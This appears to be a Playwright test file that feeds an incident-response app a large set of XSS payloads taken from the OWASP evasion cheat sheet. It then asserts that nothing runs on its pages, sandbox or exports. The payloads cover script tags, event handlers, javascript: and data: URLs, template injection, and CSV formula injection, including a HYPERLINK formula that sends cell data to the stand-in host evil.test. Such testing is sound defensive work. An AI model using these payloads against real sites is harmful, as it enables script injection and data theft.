"""Nothing that anybody typed runs: what OWASP lists for XSS, on every page and export, in Chromium.

Each text would set ``window.ran``, open a dialog, load something from ``evil.test`` or breach the
page's policy if the browser took any of it for more than text.
https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import NewPage
from tests.browser.demo_server import DemoServer
from tests.browser.test_private import signs_in

RUN = "window.ran=1"
DATA = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

#: By the classes of the cheat sheet.
ATTACKS = {
    "scripts": f"""<script>{RUN}</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>
<script/x>{RUN}</script><scr<script>ipt>{RUN}</scr</script>ipt><script>{RUN}//""",
    "handlers": f"""<img src=x onerror={RUN}><body onload={RUN}><input autofocus onfocus="{RUN}">
<details open ontoggle={RUN}><video><source onerror={RUN}></video><marquee onstart={RUN}>""",
    "out of attributes": f"""" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="
' onfocus='{RUN}' autofocus x=' `onerror={RUN} "><script>{RUN}</script> --><script>{RUN}</script>
</title></textarea></style></noscript></template><script>{RUN}</script>]]><script>{RUN}</script>""",
    "urls of scripts": f"""<a href="javascript:{RUN}">a</a> <a href="jav&#x09;ascript:{RUN}">b</a>
[c](javascript:{RUN}) [d](JaVaScRiPt:{RUN}) [e](java\tscript:{RUN}) [f](&#106;avascript:{RUN})
[g]( javascript:{RUN}) [h](\x01javascript:{RUN}) [i](vbscript:x) [j](javascript%3A{RUN})
<javascript:{RUN}> <javascript:{RUN}|k> <JAVASCRIPT:{RUN}|l> [m](feed:javascript:{RUN})""",
    "urls of data": f"""[a](data:text/html;base64,{DATA}) <data:text/html,<script>{RUN}</script>|b>
<object data="data:text/html;base64,{DATA}"> <embed src="data:image/svg+xml;base64,{DATA}">""",
    "svg and math": f"""<svg onload={RUN}></svg><svg><script>{RUN}</script></svg><svg><a
xlink:href="javascript:{RUN}"><text>a</text></a><animate onbegin={RUN} attributeName=x></svg>
<math><mtext><table><mglyph><style><img src onerror={RUN}></style></mglyph></table></mtext>
</math><math href="javascript:{RUN}">b</math>""",
    "malformed tags": f"""<<script>{RUN}//<</script> <img \"\"\"><script>{RUN}</script>"> <IMG
SRC=x onerror\n=\n"{RUN}" <a href='x' onclick='{RUN}'a <script\x0b>{RUN}</script> <\x00script>{RUN}
<%<!--'%><script>{RUN}</script --> <!--[if gte IE 4]><script>{RUN}</script><![endif]-->
<img/src=x/onerror={RUN}> <\u200bscript>{RUN} \uff1cscript\uff1e{RUN}\uff1c/script\uff1e
<? echo('<scr)'; ?>""",
    "styles": f"""<style>@import '//evil.test/x.css'; body{{background:url(//evil.test/y)}}</style>
<div style="background:url(//evil.test/z);width:expression({RUN})">a</div>
<link rel=stylesheet href=//evil.test/w.css> <p style=position:fixed;inset:0>b</p>""",
    "frames and forms": f"""<iframe src="javascript:{RUN}"></iframe><iframe srcdoc="&lt;script&gt;
{RUN}&lt;/script&gt;"></iframe><iframe src=//evil.test/i></iframe><object data=//evil.test/o>
</object><embed src=//evil.test/e><base href=//evil.test/><meta http-equiv=refresh
content="0;url=//evil.test/m"><form action=//evil.test/f><button>a</button></form>
<portal src=//evil.test/p><frameset onload={RUN}>""",
    "entities": f"""&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;
&amp;lt;script&amp;gt;{RUN} &#x3c;svg/onload={RUN}&#x3e; \\u003cscript\\u003e{RUN} \\x3cscript\\x3e
%3Cscript%3E{RUN}%3C/script%3E &LT;script&GT;{RUN} &#0000060script>{RUN} +ADw-script+AD4-{RUN}""",
    "markdown": f"""![a](//evil.test/1.png) ![b](javascript:{RUN}) ![c][r] [d][s] <//evil.test/2>
[e](https://x.test "onmouseover={RUN}") [f](https://x.test'onclick='{RUN}) ![g"onerror="{RUN}](x)
[h](<javascript:{RUN}>) [i](https://x.test/"onfocus="{RUN}"autofocus=")
<https://x.test/"><svg/onload={RUN}>

[r]: //evil.test/3.png "x"
[s]: javascript:{RUN}

```html
<script>{RUN}</script>
```
`<img src=x onerror={RUN}>` <p>|<script>{RUN}</script>|
|--|
|<img src=x onerror={RUN}>|""",
    "templates": f"""{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} {{% load x %}}
{{{{ 7*7 }}}}
<%= 7*7 %> #{{7*7}} [[${{7*7}}]] {{{{'a'.constructor.prototype.charAt=[].join}}}}
{{!!{RUN}!!}}""",
    "tokens": f"""<@U0ANA|<img src=x onerror={RUN}>> <#C0GENERAL|"><script>{RUN}</script>>
<https://x.test/"onmouseover="{RUN}|"><svg onload={RUN}>> <mailto:a@x.test"onclick="{RUN}|b>
<https://x.test|https://evil.test> <!subteam^S1|<script>{RUN}</script>>""",
    "bidi": f"""\u202e<script>{RUN}</script>\u202c \u2066"onload="{RUN}\u2069 \u200f
<svg/onload={RUN}>
\ufeff<script>{RUN}</script> 👩\u200d🚒<img src=x onerror={RUN}>""",
    "formulas": """=HYPERLINK("http://evil.test/?"&A1,"x") =cmd|' /C calc'!A0
+1+1 -2+3 @SUM(1+1)""",
}

WATCH = """
addEventListener('securitypolicyviolation', e => console.warn('CSP breach', e.blockedURI));
"""


class Watch:
    """What a page did that no text may make it do."""

    def __init__(self, page: Page, home: str) -> None:
        self.page = page
        self.seen: list[str] = []
        page.add_init_script(WATCH)
        page.on("dialog", self._dialog)
        page.on("request", lambda request: self._request(request.url, home))
        page.on("console", lambda message: self._console(message.text))
        page.on("popup", lambda popup: self.seen.append(f"opened {popup.url}"))

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, url: str, home: str) -> None:
        if not url.startswith((home, "about:", "blob:")):
            self.seen.append(f"asked {url}")

    def _console(self, text: str) -> None:
        if "CSP breach" in text or "Content Security Policy" in text:
            self.seen.append(text)

    def nothing_ran(self) -> None:
        """After the pointer went over, and the focus into, all that could be waiting for it."""
        self.page.wait_for_load_state("load")
        assert self.page.evaluate(POKE) is None
        self.page.wait_for_timeout(50)
        ran = self.page.evaluate("window.ran ?? null")
        assert ran is None, f"{self.page.url} ran something"
        assert self.seen == [], self.page.url
        assert self.page.url.startswith("http://127.0.0.1:")


POKE = """() => {
    for (const element of document.querySelectorAll('body *')) {
        for (const name of ['mouseover', 'mouseenter', 'focus', 'toggle', 'error', 'load']) {
            element.dispatchEvent(new Event(name));
        }
        const href = element.getAttribute('href') || element.getAttribute('xlink:href') || '';
        const scheme = /^[\\s\\x00-\\x20]*([a-z][a-z0-9+.-]*):/i.exec(href);
        if (scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme[1].toLowerCase())) {
            return `a link to ${href}`;
        }
        for (const attribute of element.attributes) {
            if (attribute.name.startsWith('on')) return `${element.tagName} ${attribute.name}`;
        }
    }
    return null;
}"""


@pytest.fixture(scope="module")
def declared(demo: DemoServer) -> dict[str, int]:
    """An incident for each class, with the text wherever the API takes one."""
    found: dict[str, int] = {}
    ana = _somebody(demo)
    for name, attack in ATTACKS.items():
        line = " ".join(attack.replace("\x00", "").split())
        values = {"report": line[:200], "summary": attack, "impact": attack}
        incident = demo.api("/core/incidents/", values)
        path = f"/core/incidents/{incident['id']}"
        demo.api(f"{path}/timeline/events/", {"text": attack, "metadata": {"x": attack}})
        demo.api(f"{path}/actions/", {"details": attack, "user": ana})
        found[name] = incident["id"]
    return found


def _somebody(demo: DemoServer) -> str:
    """The id of a person whom the app knows, since they have just used it."""
    declare = {"user": "U0ANA", "channel": "C0GENERAL", "command": "/incident", "text": ""}
    demo.page_api("command", **declare)
    until = time.monotonic() + 120
    while time.monotonic() < until:
        people = json.loads(demo.fetch("/core/users/")[2])["results"]
        if people:
            return str(people[0]["external_id"])
        time.sleep(0.5)
    raise AssertionError("The demo knows nobody.")


@pytest.fixture
def watch(demo: DemoServer, new_page: NewPage) -> Watch:
    page = new_page()
    signs_in(page, demo)
    return Watch(page, demo.url)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_on_the_pages_of_an_incident(
    demo: DemoServer, watch: Watch, declared: dict[str, int], attack: str
) -> None:
    number = declared[attack]
    for path in (f"/incident/{number}/", f"/admin/response/incident/{number}/change/"):
        watch.page.goto(demo.url + path)
        watch.nothing_ran()
    _, _, body = demo.fetch(f"/core/incidents/{number}/")
    assert json.loads(body)["summary"] == ATTACKS[attack].replace("\x00", "").strip()


PATHS = [
    *("/", "/?q=%22%3E%3Cscript%3Ewindow.ran=1%3C/script%3E&status=%3Csvg/onload=window.ran=1%3E"),
    *("/admin/response/incident/", "/admin/response/action/", "/admin/response/timelineevent/"),
    *("/core/incidents/", "/core/incidents/?format=json", "/core/events/", "/core/actions/"),
    *("/core/reports/", "/core/reference/", "/core/schema/", "/sandbox/"),
    *(
        "/no<script>window.ran=1</script>such",
        "/core/incidents/?status=<script>window.ran=1</script>",
    ),
]


@pytest.mark.parametrize("path", PATHS)
def test_nothing_runs_on_lists_and_answers_opened_directly(
    demo: DemoServer, watch: Watch, declared: dict[str, int], path: str
) -> None:
    watch.page.goto(demo.url + path)
    watch.nothing_ran()


def test_nothing_runs_in_the_workspace(
    demo: DemoServer, watch: Watch, declared: dict[str, int]
) -> None:
    for attack in ATTACKS.values():
        wire = attack.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        for text in (attack, wire):
            section = {"type": "section", "text": {"type": "mrkdwn", "text": text[:2900]}}
            demo.slack("chat.postMessage", channel="C0GENERAL", text=text, blocks=[section])
            demo.slack("chat.postMessage", channel="C0GENERAL", text=text)
    for place in ("C0GENERAL", "C0INCIDENTS"):
        watch.page.goto(f"{demo.url}/sandbox/?user=U0ANA&channel={place}")
        watch.page.get_by_test_id("message").first.wait_for()
        watch.nothing_ran()


def test_exports_are_files_of_text(demo: DemoServer, declared: dict[str, int]) -> None:
    status, headers, body = demo.fetch("/core/incidents/export.csv")
    assert (status, headers["X-Content-Type-Options"]) == (200, "nosniff")
    assert headers["Content-Type"].startswith("text/csv")
    assert headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip()[:1] in {"=", "+", "-", "@"} and cell]
    status, headers, body = demo.fetch("/core/incidents/export.json")
    assert (status, headers["X-Content-Type-Options"]) == (200, "nosniff")
    by_number = {row["id"]: row for row in json.loads(body)}
    for name, number in declared.items():
        assert by_number[number]["summary"] == ATTACKS[name].replace("\x00", "").strip()
